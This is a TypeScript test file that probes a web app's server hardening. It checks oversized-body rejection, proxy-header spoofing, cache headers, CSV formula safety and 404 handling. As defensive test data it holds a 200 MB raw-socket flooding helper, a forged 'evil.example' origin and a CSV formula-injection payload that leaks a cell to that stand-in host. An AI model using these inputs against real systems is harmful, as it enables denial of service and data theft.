/**
 * The production server (scripts/serve.mjs) and the route wrappers, through HTTP against the built app:
 * oversized bodies, proxy headers, Cache-Control, formula-safe CSV, and 404 pages for unknown objects.
 */
import { readdirSync, readFileSync } from "node:fs";
import { connect } from "node:net";
import path from "node:path";
import JSZip from "jszip";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startDemoApp, type DemoApp } from "@/lib/test-support/demo-app";

const CONSULTANT = "consultant@demo.throughline.test";
const ORG = "harbour-mutual";
const MB = 1024 * 1024;

let app: DemoApp;
let cookie: string;

beforeAll(async () => {
  // A low respondent limit, so the throttle is reached within a few requests.
  app = await startDemoApp({ RESPONDENT_REQUESTS_PER_IP: "5" });
  cookie = await app.signInAs(CONSULTANT);
});

afterAll(async () => {
  await app?.close();
});

/** The server process's resident memory in MB (from /proc). */
function rssMb(pid: number): number {
  const status = readFileSync(`/proc/${pid}/status`, "utf8");
  return Number(/VmRSS:\s+(\d+) kB/.exec(status)![1]) / 1024;
}

/**
 * POSTs `size` bytes over a raw socket as fast as the server takes them (chunked, or with Content-Length)
 * and keeps sending after an early answer, as an attacker would; resolves with the status, when it came,
 * and how much was sent before the server stopped taking more.
 */
function hugePost(
  origin: string,
  path: string,
  size: number,
  declareLength: boolean,
): Promise<{ status: number; ms: number; sent: number }> {
  return new Promise((resolve, reject) => {
    const { hostname, port } = new URL(origin);
    const started = performance.now();
    const socket = connect(Number(port), hostname);
    const piece = Buffer.alloc(64 * 1024, "a");
    const framed = declareLength
      ? piece
      : Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from("\r\n")]);
    let sent = 0;
    let answer: { status: number; ms: number } | undefined;
    let received = "";
    socket.on("data", (data) => {
      received += data.toString("latin1");
      const status = /^HTTP\/1\.1 (\d{3})/.exec(received);
      if (status && !answer) answer = { status: Number(status[1]), ms: performance.now() - started };
    });
    const finish = () => (answer ? resolve({ ...answer, sent }) : reject(new Error(`no answer after ${sent} bytes`)));
    socket.on("error", () => {});
    socket.on("close", finish);
    const write = () => {
      while (sent < size && !socket.destroyed) {
        sent += piece.length;
        if (!socket.write(framed)) return void socket.once("drain", write);
      }
      if (!socket.destroyed) socket.end(declareLength ? "" : "0\r\n\r\n");
    };
    socket.once("connect", () => {
      const length = declareLength ? `content-length: ${size}` : "transfer-encoding: chunked";
      socket.write(
        `POST ${path} HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/x-www-form-urlencoded\r\n${length}\r\n\r\n`,
      );
      write();
    });
  });
}

describe("oversized bodies (issue 10, item 13)", () => {
  it("four simultaneous 200 MB sign-in posts are refused with 413 at once, memory stays flat and the health check answers", async () => {
    const before = rssMb(app.pid);
    let peak = before;
    const healthTimes: number[] = [];
    let uploading = true;
    const sampler = (async () => {
      while (uploading) {
        peak = Math.max(peak, rssMb(app.pid));
        const started = performance.now();
        const health = await fetch(`${app.origin}/api/health`);
        expect(health.status).toBe(200);
        healthTimes.push(performance.now() - started);
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    })();
    const results = await Promise.all([
      ...Array.from({ length: 4 }, () => hugePost(app.origin, "/api/auth/callback/credentials", 200 * MB, false)),
      ...Array.from({ length: 4 }, () => hugePost(app.origin, "/api/auth/callback/credentials", 200 * MB, true)),
    ]);
    uploading = false;
    await sampler;
    console.log(
      `413s after ${results.map((r) => Math.round(r.ms)).join(", ")} ms; sent ${results.map((r) => Math.round(r.sent / MB)).join(", ")} MB; RSS ${Math.round(before)} → peak ${Math.round(peak)} MB; health max ${Math.round(Math.max(...healthTimes))} ms over ${healthTimes.length} checks`,
    );
    expect(results.map((r) => r.status)).toEqual(Array(8).fill(413));
    for (const result of results) expect(result.ms).toBeLessThan(3000);
    expect(peak - before).toBeLessThan(150);
    expect(healthTimes.length).toBeGreaterThan(0);
    expect(Math.max(...healthTimes)).toBeLessThan(1000);
  });

  it("answers 413 as problem+json on any address past its limit, and the connection is usable by the next client", async () => {
    const refused = await fetch(`${app.origin}/api/orgs`, {
      method: "POST",
      headers: { cookie, "content-type": "application/json" },
      body: JSON.stringify({ name: "x".repeat(2 * MB) }),
    });
    expect(refused.status).toBe(413);
    expect(refused.headers.get("content-type")).toBe("application/problem+json");
    expect(await refused.json()).toMatchObject({ status: 413, title: "Payload too large" });
    expect((await fetch(`${app.origin}/api/health`)).status).toBe(200);
  });

  it("tells a client that asks first (Expect: 100-continue) not to send an oversized body at all", async () => {
    const firstLine = (length: number) =>
      new Promise<string>((resolve, reject) => {
        const { hostname, port } = new URL(app.origin);
        const socket = connect(Number(port), hostname, () => {
          socket.write(
            `POST /api/auth/callback/credentials HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: ${length}\r\nexpect: 100-continue\r\n\r\n`,
          );
        });
        socket.once("data", (data) => {
          resolve(data.toString("latin1").split("\r\n")[0]!);
          socket.destroy();
        });
        socket.once("error", reject);
      });
    expect(await firstLine(200 * MB)).toBe("HTTP/1.1 413 Payload Too Large");
    expect(await firstLine(100)).toBe("HTTP/1.1 100 Continue");
  });

  it("lets a body just within the limit through to the route", async () => {
    const body = JSON.stringify({ answers: {}, filler: "x".repeat(60 * 1024) });
    const response = await fetch(`${app.origin}/api/survey/no-such-token/answers`, {
      method: "PUT",
      headers: { "content-type": "application/json", "x-forwarded-for": "192.0.2.1" },
      body,
    });
    expect(response.status).not.toBe(413);
  });
});

describe("proxy headers with TRUST_PROXY unset (issue 10, item 9)", () => {
  it("a rotating X-Forwarded-For does not evade the respondent throttle", async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 8; i++) {
      const response = await fetch(`${app.origin}/api/survey/no-such-token`, {
        headers: { "x-forwarded-for": `203.0.113.${i + 10}`, "x-real-ip": `198.51.100.${i}` },
      });
      statuses.push(response.status);
    }
    // The 5 allowed requests (one of which the test above used) are spent by one address, however it is named.
    expect(statuses.filter((status) => status === 429).length).toBeGreaterThanOrEqual(3);
    expect(statuses.at(-1)).toBe(429);
  });

  it("X-Forwarded-Host does not make another origin look like this one", async () => {
    const forged = await fetch(`${app.origin}/api/orgs`, {
      method: "POST",
      headers: {
        cookie,
        "content-type": "application/json",
        origin: "http://evil.example",
        "x-forwarded-host": "evil.example",
      },
      body: JSON.stringify({ name: "Forged organisation" }),
    });
    expect(forged.status).toBe(403);
    expect((await forged.json()).title).toBe("Cross-origin request refused");
    expect(await app.db.organisation.count({ where: { name: "Forged organisation" } })).toBe(0);
  });

  it("a link the app gives out starts with its public address (NEXTAUTH_URL), not with the host the request named", async () => {
    const viaAnotherName = app.origin.replace("127.0.0.1", "localhost");
    const response = await fetch(`${viaAnotherName}/api/orgs/${ORG}/workshops`, {
      method: "POST",
      headers: { cookie, "content-type": "application/json", origin: viaAnotherName },
      body: JSON.stringify({ name: "Link address check" }),
    });
    expect(response.status).toBe(201);
    const { link } = (await response.json()) as { link: string };
    expect(link).toMatch(new RegExp(`^${app.origin.replace(/[.]/g, "\\.")}/w/[A-Za-z0-9_-]+$`));
  });
});

describe("exports (issue 10, item 17)", () => {
  it("every API answer says Cache-Control: no-store — JSON, CSV, PDF and problems", async () => {
    const urls = [
      `/api/orgs`,
      `/api/orgs/${ORG}/actions?format=csv`,
      `/api/orgs/${ORG}/report`,
      `/api/orgs/${ORG}/report/slides`,
      `/api/orgs/${ORG}/model`,
      `/api/orgs/no-such-org/findings`,
      `/api/health`,
    ];
    for (const url of urls) {
      const response = await fetch(`${app.origin}${url}`, { headers: { cookie } });
      expect([url, response.headers.get("cache-control")]).toEqual([url, expect.stringContaining("no-store")]);
      await response.arrayBuffer();
    }
    const anonymous = await fetch(`${app.origin}/api/orgs`);
    expect([anonymous.status, anonymous.headers.get("cache-control")]).toEqual([401, "no-store"]);
  });

  it("the slide deck: a member gets an editable deck, a head's is limited to their departments, another organisation's owner gets 404", async () => {
    const url = `${app.origin}/api/orgs/${ORG}/report/slides`;
    const deck = await fetch(url, { headers: { cookie } });
    expect(deck.status).toBe(200);
    expect(deck.headers.get("content-type")).toBe(
      "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    );
    const zip = await JSZip.loadAsync(await deck.arrayBuffer());
    expect(Object.keys(zip.files).filter((name) => /^ppt\/slides\/slide\d+\.xml$/.test(name)).length).toBeGreaterThan(
      5,
    );

    const head = await fetch(url, { headers: { cookie: await app.signInAs("head@demo.throughline.test") } });
    const headZip = await JSZip.loadAsync(await head.arrayBuffer());
    const headText = (
      await Promise.all(
        Object.values(headZip.files)
          .filter((entry) => !entry.dir)
          .map((entry) => entry.async("string")),
      )
    )
      .join("")
      .replace(/<[^>]+>/g, "");
    expect(headText).toContain("limited to the departments of the person who downloaded it");

    const outsider = await fetch(url, { headers: { cookie: await app.signInAs("outsider@demo.throughline.test") } });
    expect(outsider.status).toBe(404);
    expect(await outsider.text()).not.toContain("Harbour");
  });

  it("a cell that would run as a formula is written as text in the CSV", async () => {
    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const created = await fetch(`${app.origin}/api/orgs/${ORG}/actions`, {
      method: "POST",
      headers: { cookie, "content-type": "application/json", origin: app.origin },
      body: JSON.stringify({ findingId: "F6:kpi:email-open-rate", title, owner: CONSULTANT, due: "2027-01-01" }),
    });
    expect(created.status).toBe(201);
    const csv = await (await fetch(`${app.origin}/api/orgs/${ORG}/actions?format=csv`, { headers: { cookie } })).text();
    const rows = Papa.parse<string[]>(csv.trim()).data;
    expect(rows.find((row) => row[1]?.includes("HYPERLINK"))?.[1]).toBe(`'${title}`);
  });
});

/** Every page under an organisation with a dynamic segment besides [org], as files in app/ (so a new one is covered). */
function pagesWithKeys(): string[] {
  const found: string[] = [];
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else if (entry.name === "page.tsx")
        found.push(path.relative(path.join("app", "orgs", "[org]"), path.dirname(full)));
    }
  };
  walk(path.join("app", "orgs", "[org]"));
  return found.filter((route) => route.includes("[")).sort();
}

describe("unknown objects on pages (issue 10, item 16)", () => {
  it.each(pagesWithKeys())("/orgs/{org}/%s with an unknown key answers 404", async (route) => {
    const url = `/orgs/${ORG}/${route.replace(/\[[^\]]+\]/g, "no-such-thing")}`;
    const response = await fetch(`${app.origin}${url}`, { headers: { cookie } });
    expect([url, response.status]).toEqual([url, 404]);
  });
});
